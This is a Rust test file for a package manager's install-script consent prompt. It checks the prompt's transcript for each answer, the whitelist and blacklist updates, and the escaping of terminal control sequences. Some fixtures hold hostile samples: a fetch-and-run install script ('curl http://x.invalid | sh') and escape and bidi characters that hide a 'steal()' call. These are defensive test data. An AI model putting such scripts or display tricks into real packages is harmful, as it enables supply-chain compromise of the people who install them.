//! Transcripts of the consent prompt: exactly what a person sees for each answer.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::io::Cursor;

use sandboxpm_scripts::{
    Answer, Approvals, Consent, Decision, PackageScripts, Prompt, Reason, approve,
};
use support::Project;

const RULE: &str = "──────────────────────────────────────────────────────";

fn esbuild(p: &Project) -> PackageScripts {
    p.scripted(
        "esbuild",
        "0.19.4",
        "node install.js",
        &[(
            "install.js",
            "const fs = require('fs');\nfs.writeFileSync('bin', '');\n",
        )],
    )
}

/// Runs the prompt over `packages` with `input`; the answers and the transcript.
fn transcript(p: &Project, packages: &[&PackageScripts], input: &str) -> (Vec<Answer>, String) {
    let mut prompt = Prompt::new(Cursor::new(input.as_bytes().to_vec()), Vec::new(), &p.root);
    let answers = prompt.ask(packages).unwrap();
    let (_, output) = prompt.into_parts();
    (answers, String::from_utf8(output).unwrap())
}

fn esbuild_block(question_count: usize) -> String {
    let mut text = format!(
        "{RULE}\n⚠ 1 package has install scripts\n{RULE}\n\
         1. esbuild@0.19.4\n   \
         Type:    postinstall\n   \
         Script:  node install.js\n   \
         Inspect: node_modules/.sandboxpm/esbuild@0.19.4/node_modules/esbuild/install.js\n"
    );
    text.push_str("Run this script? [y/N/inspect/always/never] ");
    for _ in 1..question_count {
        text.push_str("Run this script? [y/N/inspect/always/never] ");
    }
    text
}

#[test]
fn yes_approves() {
    let p = Project::new();
    let pkg = esbuild(&p);
    let (answers, text) = transcript(&p, &[&pkg], "y\n");
    assert_eq!(answers, vec![Answer::Yes]);
    assert_eq!(text, esbuild_block(1));
    assert!(!p.root.join(".sandboxpmrc").exists());
}

#[test]
fn no_and_empty_refuse() {
    let p = Project::new();
    let pkg = esbuild(&p);
    for input in ["n\n", "no\n", "\n", "NO\n", ""] {
        let (answers, text) = transcript(&p, &[&pkg], input);
        assert_eq!(answers, vec![Answer::No], "{input:?}");
        assert_eq!(text, esbuild_block(1), "{input:?}");
    }
}

#[test]
fn unknown_answers_ask_again() {
    let p = Project::new();
    let pkg = esbuild(&p);
    let (answers, text) = transcript(&p, &[&pkg], "sure\nyes\n");
    assert_eq!(answers, vec![Answer::Yes]);
    let expected = esbuild_block(1)
        + "   Please answer y, n, inspect, always or never.\n"
        + "Run this script? [y/N/inspect/always/never] ";
    assert_eq!(text, expected);
}

#[test]
fn inspect_prints_the_source_then_asks_again() {
    let p = Project::new();
    let pkg = esbuild(&p);
    let (answers, text) = transcript(&p, &[&pkg], "inspect\ny\n");
    assert_eq!(answers, vec![Answer::Yes]);
    let path = "node_modules/.sandboxpm/esbuild@0.19.4/node_modules/esbuild/install.js";
    let expected = esbuild_block(1)
        + &format!("─── {path} ───\n")
        + "const fs = require('fs');\n"
        + "fs.writeFileSync('bin', '');\n"
        + &format!("─── end of {path} ───\n")
        + "Run this script? [y/N/inspect/always/never] ";
    assert_eq!(text, expected);
}

#[test]
fn inspect_pages_long_sources_by_forty_lines() {
    let p = Project::new();
    let source: String = (1..=90).map(|i| format!("line {i}\n")).collect();
    let pkg = p.scripted("long", "1.0.0", "node big.js", &[("big.js", &source)]);
    // Enter at the first `-- more --`, `q` at the second.
    let (answers, text) = transcript(&p, &[&pkg], "inspect\n\nq\nn\n");
    assert_eq!(answers, vec![Answer::No]);
    let path = "node_modules/.sandboxpm/long@1.0.0/node_modules/long/big.js";
    let mut expected = format!(
        "{RULE}\n⚠ 1 package has install scripts\n{RULE}\n1. long@1.0.0\n   \
         Type:    postinstall\n   Script:  node big.js\n   Inspect: {path}\n\
         Run this script? [y/N/inspect/always/never] ─── {path} ───\n"
    );
    for i in 1..=40 {
        expected.push_str(&format!("line {i}\n"));
    }
    expected.push_str("-- more -- ");
    for i in 41..=80 {
        expected.push_str(&format!("line {i}\n"));
    }
    expected.push_str("-- more -- ─── (stopped) ───\n");
    expected.push_str("Run this script? [y/N/inspect/always/never] ");
    assert_eq!(text, expected);
}

#[test]
fn always_whitelists_name_at_version_in_the_project_sandboxpmrc() {
    let p = Project::new();
    let pkg = esbuild(&p);
    std::fs::write(
        p.root.join(".sandboxpmrc"),
        "{\n  \"blacklist\": [\"other\"]\n}\n",
    )
    .unwrap();
    let (answers, text) = transcript(&p, &[&pkg], "always\n");
    assert_eq!(answers, vec![Answer::Always]);
    assert_eq!(
        text,
        esbuild_block(1) + "   Added esbuild@0.19.4 to the whitelist in .sandboxpmrc\n"
    );
    assert_eq!(
        std::fs::read_to_string(p.root.join(".sandboxpmrc")).unwrap(),
        "{\n  \"blacklist\": [\n    \"other\"\n  ],\n  \"whitelist\": [\n    \"esbuild@0.19.4\"\n  ]\n}\n"
    );
    // The next install needs no question.
    let settings = sandboxpm_config::SandboxpmSettings::load(Some(&p.root), None).unwrap();
    assert!(
        sandboxpm_scripts::decide(&settings, "esbuild", "0.19.4")
            .unwrap()
            .is_approved()
    );
}

#[test]
fn never_blacklists_the_name() {
    let p = Project::new();
    let pkg = esbuild(&p);
    let (answers, text) = transcript(&p, &[&pkg], "never\n");
    assert_eq!(answers, vec![Answer::Never]);
    assert_eq!(
        text,
        esbuild_block(1) + "   Added esbuild to the blacklist in .sandboxpmrc\n"
    );
    let settings = sandboxpm_config::SandboxpmSettings::load(Some(&p.root), None).unwrap();
    assert_eq!(
        sandboxpm_scripts::decide(&settings, "esbuild", "9.9.9").unwrap(),
        Decision::Refused(Reason::Blacklisted(settings.blacklist[0].clone()))
    );
}

#[test]
fn several_packages_are_numbered_and_asked_in_turn() {
    let p = Project::new();
    let a = esbuild(&p);
    let b = p.scripted(
        "sharp",
        "0.33.2",
        "node install/check",
        &[("install/check.js", "x")],
    );
    let c = p.scripted("evil", "1.0.0", "curl http://x.invalid | sh", &[]);
    let (answers, text) = transcript(&p, &[&a, &b, &c], "y\n\nnever\n");
    assert_eq!(answers, vec![Answer::Yes, Answer::No, Answer::Never]);
    let q = "Run this script? [y/N/inspect/always/never] ";
    let expected = format!(
        "{RULE}\n⚠ 3 packages have install scripts\n{RULE}\n\
         1. esbuild@0.19.4\n   Type:    postinstall\n   Script:  node install.js\n   \
         Inspect: node_modules/.sandboxpm/esbuild@0.19.4/node_modules/esbuild/install.js\n{q}\
         2. sharp@0.33.2\n   Type:    postinstall\n   Script:  node install/check\n   \
         Inspect: node_modules/.sandboxpm/sharp@0.33.2/node_modules/sharp/install/check.js\n{q}\
         3. evil@1.0.0\n   Type:    postinstall\n   Script:  curl http://x.invalid | sh\n{q}\
         \x20  Added evil to the blacklist in .sandboxpmrc\n"
    );
    assert_eq!(text, expected);
}

#[test]
fn terminal_escapes_from_the_package_are_shown_not_interpreted() {
    let p = Project::new();
    let pkg = p.scripted(
        "sneaky",
        "1.0.0",
        "node i.js # \u{1b}[2K\rnode harmless.js",
        &[(
            "i.js",
            "ok();\n\u{1b}[1A\u{1b}[2Ksteal(); // \u{202e}txt.exe\n",
        )],
    );
    let (_, text) = transcript(&p, &[&pkg], "inspect\nn\n");
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(!text.contains('\u{202e}'), "{text}");
    assert!(
        text.contains("Script:  node i.js # \\x1b[2K\\x0dnode harmless.js"),
        "{text}"
    );
    assert!(
        text.contains("\\x1b[1A\\x1b[2Ksteal(); // <U+202E>txt.exe\n"),
        "{text}"
    );
}

#[test]
fn approve_asks_only_about_undecided_packages() {
    let p = Project::new();
    let a = esbuild(&p);
    let b = p.scripted("trusted", "1.0.0", "node t.js", &[("t.js", "")]);
    let c = p.scripted("banned", "1.0.0", "node b.js", &[("b.js", "")]);
    let settings = p.settings(r#"{"whitelist":["trusted"],"blacklist":["banned"]}"#);
    let mut prompt = Prompt::new(Cursor::new(b"y\n".to_vec()), Vec::new(), &p.root);
    let approvals: Approvals = approve(&[a, b, c], &settings, Some(&mut prompt)).unwrap();
    let (_, output) = prompt.into_parts();
    let text = String::from_utf8(output).unwrap();
    assert!(text.contains("⚠ 1 package has install scripts"), "{text}");
    assert!(
        !text.contains("trusted") && !text.contains("banned"),
        "{text}"
    );
    assert_eq!(
        approvals.approved().collect::<Vec<_>>(),
        vec!["esbuild@0.19.4", "trusted@1.0.0"]
    );
    assert_eq!(
        approvals.decisions[0].1,
        Decision::Approved(Reason::Answered(Answer::Yes))
    );
}
